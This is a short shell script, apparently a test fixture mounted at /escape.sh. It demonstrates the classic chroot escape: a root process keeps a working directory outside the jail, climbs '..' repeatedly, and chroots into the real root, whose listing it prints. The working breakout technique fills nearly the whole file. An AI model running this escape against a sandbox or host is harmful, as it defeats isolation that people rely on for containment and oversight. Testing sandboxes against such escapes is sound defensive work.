# The classic way out of a chroot, for whoever is root in it (chroot(2): "this call does not change the current
# working directory"). It is bind mounted at /escape.sh. It prints what is in the directory in which it ends up.

mkdir -p /tmp/jail/bin
cp /bin/busybox /tmp/jail/bin/sh

# nsenter opens "/", makes /tmp/jail the root, and then returns to what it had opened. So the working directory is
# above the root, and on the way up from there no root is met: ".." leads on to the last directory there is.
nsenter --root=/tmp/jail --wd=/ /bin/sh -c '
    up=0
    while [ $up -lt 50 ]; do
        cd -P ..
        up=$((up + 1))
    done
    exec chroot . /bin/ls -a /
' 2>/dev/null
rm -r /tmp/jail
